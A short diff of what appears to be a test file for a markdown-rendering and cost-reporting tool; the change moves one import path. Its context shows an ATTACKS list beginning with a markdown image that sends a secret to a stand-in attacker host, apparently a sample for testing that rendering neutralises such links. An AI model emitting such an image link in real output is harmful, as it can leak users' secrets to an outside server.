@@ -14,7 +14,7 @@ import { diffSides } from '../../src/core/diff/diff.js';
 import { diffMarkdown } from '../../src/core/diff/format.js';
 import { analyzeText } from '../../src/core/engine.js';
 import { mdCode, mdText, notificationText, plainLabel } from '../../src/core/markdown.js';
-import { editUsageLink, hoverMarkdown, reportMarkdown } from '../../src/extension/cost/content.js';
+import { editUsageLink, hoverMarkdown, reportMarkdown } from '../../src/core/present/cost.js';
 
 const ATTACKS = [
   '![x](https://attacker.example/?k=SECRET)',
